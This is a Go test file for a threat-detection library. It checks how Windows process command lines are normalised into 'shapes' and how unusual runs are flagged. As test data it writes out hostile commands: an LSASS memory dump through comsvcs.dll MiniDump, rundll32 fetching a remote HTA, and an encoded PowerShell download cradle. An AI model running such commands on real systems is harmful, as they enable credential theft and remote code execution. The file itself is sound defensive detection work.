package detect

import (
	"context"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/huntflow/huntflow"
)

func TestCommandLineShape(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		{"empty", "  ", ""},
		{"bare program", "whoami", "whoami"},
		{"quoted path", `"C:\Windows\System32\rundll32.exe" C:\Windows\System32\shell32.dll,Control_RunDLL`,
			`rundll32 c:\windows\system#\shell#.dll,control_rundll`},
		{"bare name with .exe", `rundll32.exe   C:\Windows\System32\shell32.dll,Control_RunDLL`,
			`rundll32 c:\windows\system#\shell#.dll,control_rundll`},
		{"unquoted path with spaces", `C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe --type=renderer`,
			"msedge --type=renderer"},
		{"guid", `C:\Windows\system32\DllHost.exe /Processid:{3EB3C877-1F16-487C-9050-104DBCD66683}`, "dllhost /processid:<guid>"},
		{"user profile", `notepad.exe "C:\Users\alice\Documents\plan.txt"`, `notepad c:\users\<user>\documents\plan.txt`},
		{"base64", "powershell.exe -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
			"powershell -enc <blob>"},
		{"hex", `\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1`, "conhost <hex> -forcev#"},
		{"long hex token", "certutil -hashfile a.bin 5d41402abc4b2a76b9719d911017c592", "certutil -hashfile a.bin <hex>"},
		{"numbers", `rundll32.exe comsvcs.dll, MiniDump 628 C:\temp\out.dmp full`, `rundll32 comsvcs.dll, minidump # c:\temp\out.dmp full`},
		{"unterminated quote", `"C:\Windows\x.exe`, "x"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := CommandLineShape(tt.in); got != tt.want {
				t.Errorf("CommandLineShape(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

// TestCommandLineShapeEquivalence checks the point of shapes: runs that
// differ only in per-run values share a shape, runs that do different
// things do not.
func TestCommandLineShapeEquivalence(t *testing.T) {
	tests := []struct {
		a, b string
		same bool
	}{
		{`C:\Windows\System32\rundll32.exe shell32.dll,SHCreateLocalServerRunDll {9aa46009-3ce0-458a-a354-715610a075e6} -Embedding`,
			`"C:\Windows\System32\rundll32.exe" shell32.dll,SHCreateLocalServerRunDll {C2A2A6E3-0A1F-4E48-9D3B-1A8F1B8D2C44} -Embedding`, true},
		{`"C:\Users\alice\AppData\Local\app\update.exe" --pid 4242`, `"C:\Users\bob\AppData\Local\app\update.exe" --pid 17`, true},
		{`rundll32.exe shell32.dll,Control_RunDLL`, `rundll32.exe C:\Users\Public\x.dll,Start`, false},
		{`svchost.exe -k netsvcs -p -s Schedule`, `svchost.exe -k netsvcs -p -s BITS`, false},
	}
	for _, tt := range tests {
		if same := CommandLineShape(tt.a) == CommandLineShape(tt.b); same != tt.same {
			t.Errorf("shapes of %q and %q: same=%v, want %v (%q, %q)", tt.a, tt.b, same, tt.same, CommandLineShape(tt.a), CommandLineShape(tt.b))
		}
	}
}

const (
	rundll32 = `C:\Windows\System32\rundll32.exe`
	oddCmd   = `rundll32.exe url.dll,FileProtocolHandler http://203.0.113.7/a.hta`
)

// routine returns n runs of rundll32 as COM starts them: the same shape with
// a different GUID each time.
func routine(n, from int) []*huntflow.Event {
	var evs []*huntflow.Event
	for i := range n {
		evs = append(evs, procCreate(fmt.Sprintf("{N%d}", from+i), "{D}", `C:\Windows\System32\svchost.exe`, rundll32,
			fmt.Sprintf(`C:\Windows\system32\rundll32.exe shell32.dll,SHCreateLocalServerRunDll {9aa46009-3ce0-458a-a354-7156%08x} -Embedding`, i), from+i))
	}
	return evs
}

// security4688 is the Security log's record of a Sysmon process creation.
func security4688(ev *huntflow.Event) *huntflow.Event {
	return &huntflow.Event{
		ID: ev.ID + "-4688", Time: ev.Time, Channel: "Security", EventID: 4688, Host: ev.Host,
		ProcessID: ev.ProcessID, ParentProcessID: ev.ParentProcessID, Image: ev.Image, CommandLine: ev.CommandLine,
		ParentImage: ev.ParentImage, Fields: map[string]string{},
	}
}

func TestShapeStacking(t *testing.T) {
	// An odd run no rule matches: url.dll opening a remote HTA.
	odd := procCreate("{ODD}", "{E}", `C:\Windows\explorer.exe`, rundll32, oddCmd, 50)
	// An odd run a rule matches: comsvcs MiniDump of LSASS.
	dump := procCreate("{DUMP}", "{E}", `C:\Windows\explorer.exe`, rundll32, `rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 628 C:\Windows\Temp\out.dmp full`, 51)
	// Six runs of a program whose every run differs: it has no routine.
	var varied []*huntflow.Event
	for i, arg := range []string{"query", "start fax", "stop fax", "config a", "qc b", "description c", "failure d"} {
		varied = append(varied, procCreate(fmt.Sprintf("{V%d}", i), "{E}", `C:\Windows\explorer.exe`, `C:\Windows\System32\sc.exe`, "sc.exe "+arg, 60+i))
	}
	oddWMIC := procCreate("{ODDW}", "{E}", `C:\Windows\explorer.exe`, `C:\Windows\System32\wbem\WMIC.exe`, `wmic.exe shadowcopy list brief`, 90)
	var wmic []*huntflow.Event
	for i := range 6 {
		wmic = append(wmic, procCreate(fmt.Sprintf("{W%d}", i), "{E}", `C:\Windows\explorer.exe`, `C:\Windows\System32\wbem\WMIC.exe`, `wmic.exe path win32_battery get estimatedchargeremaining`, 80+i))
	}

	tests := []struct {
		name   string
		events []*huntflow.Event
		opts   Options
		want   []string // ProcessGUIDs of shape findings
	}{
		{"odd run among a routine", append(routine(6, 0), odd), Options{}, []string{"{ODD}"}},
		{"routine too short", append(routine(4, 0), odd), Options{}, nil},
		{"no routine", varied, Options{}, nil},
		{"odd run covered by a rule", append(routine(6, 0), dump), Options{}, nil},
		{"odd run seen by Sysmon and Security counts once", append(routine(6, 0), odd, security4688(odd)), Options{}, []string{"{ODD}"}},
		{"two odd runs of two programs", slices.Concat(routine(6, 0), wmic, []*huntflow.Event{odd, oddWMIC}), Options{}, []string{"{ODDW}", "{ODD}"}},
		{"capped", slices.Concat(routine(6, 0), wmic, []*huntflow.Event{odd, oddWMIC}), Options{MaxStackingFindings: 1}, []string{"{ODD}"}},
		{"disabled", append(routine(6, 0), odd), Options{DisableStacking: true}, nil},
	}
	rs := defaultDetector(t).Rules()
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			d := New(rs, tt.opts)
			cls, err := d.Detect(context.Background(), span(tt.events), tt.events)
			if err != nil {
				t.Fatal(err)
			}
			var got []string
			for _, f := range cls.Findings {
				if f.Source != "stacking" {
					continue
				}
				if !strings.HasPrefix(f.Title, shapeTitlePrefix) || f.Severity != huntflow.SeverityLow || f.EventCount != 1 {
					t.Errorf("finding %q (%s, %d events) is not a low shape finding on one event", f.Title, f.Severity, f.EventCount)
				}
				got = append(got, f.ProcessGUID)
			}
			slices.Sort(got)
			if !slices.Equal(got, tt.want) {
				t.Errorf("shape findings on %v, want %v", got, tt.want)
			}
		})
	}
}

func TestShapeFinding(t *testing.T) {
	odd := procCreate("{ODD}", "{E}", `C:\Windows\explorer.exe`, rundll32, oddCmd, 50)
	evs := append(routine(6, 0), odd)
	cls, err := defaultDetector(t).Detect(context.Background(), span(evs), evs)
	if err != nil {
		t.Fatal(err)
	}
	if len(cls.Findings) != 1 {
		t.Fatalf("findings %v, want the one shape finding", cls.Findings)
	}
	f := cls.Findings[0]
	if f.Title != "Unusual command line of rundll32.exe" || !slices.Equal(f.Techniques, []string{"T1218.011"}) ||
		!slices.Equal(f.Tactics, []string{"defense-evasion"}) || f.Events[0].ID != "{ODD}" {
		t.Errorf("finding %+v", f)
	}
	for _, want := range []string{"ran 7 times", "6 run(s) share a routine shape", `shaped "rundll32 url.dll,fileprotocolhandler http://#.#.#.#/a.hta"`} {
		if !strings.Contains(f.Description, want) {
			t.Errorf("description lacks %q:\n%s", want, f.Description)
		}
	}
	// Shape findings are leads: however many, they count as one piece of
	// evidence in the window's confidence.
	var wmic []*huntflow.Event
	for i := range 6 {
		wmic = append(wmic, procCreate(fmt.Sprintf("{W%d}", i), "{E}", `C:\Windows\explorer.exe`, `C:\Windows\System32\wbem\WMIC.exe`, `wmic.exe path win32_battery get estimatedchargeremaining`, 80+i))
	}
	wmic = append(wmic, procCreate("{ODDW}", "{E}", `C:\Windows\explorer.exe`, `C:\Windows\System32\wbem\WMIC.exe`, `wmic.exe shadowcopy list brief`, 90))
	evs = append(evs, wmic...)
	cls, err = defaultDetector(t).Detect(context.Background(), span(evs), evs)
	if err != nil {
		t.Fatal(err)
	}
	if len(cls.Findings) != 2 || cls.Confidence != stackingConfidence {
		t.Errorf("%d findings with confidence %v, want 2 counted once (%v)", len(cls.Findings), cls.Confidence, stackingConfidence)
	}
}
